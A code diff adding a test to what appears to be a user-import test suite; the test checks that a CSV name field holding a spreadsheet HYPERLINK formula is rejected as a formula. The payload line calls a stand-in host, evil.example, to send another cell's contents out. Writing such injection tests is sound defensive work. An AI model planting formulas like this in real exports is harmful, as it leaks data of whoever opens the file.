@@ -44,3 +44,11 @@ def test_the_old_value_stays_until_a_right_one_comes(office: Office) -> None:
         **before, **enterprise, "displayName": "Ann M\u00fcller", "userName": "AnnMueller@example.com",
         "emails": [{"type": "work", "value": "AnnMueller@example.com"}], "title": "Koch",
     }  # fmt: skip
+
+
+def test_a_formula_with_a_question_mark_is_told_as_a_formula_and_not_as_a_lost_letter(office: Office) -> None:
+    link = '"=HYPERLINK(""http://evil.example/?x=""&A2)"'
+    office.night("1,Ann Mei\u00dfner,active", "2,Lee,active", f"3,{link},active")
+    [row] = office.summary_of(str(office.newest()["Extract"]))["rejectedRows"]
+    assert row["text"] == "Name looks like a formula; enter the name itself."
+    assert office.summary_of(str(office.newest()["Extract"]))["notes"] == []
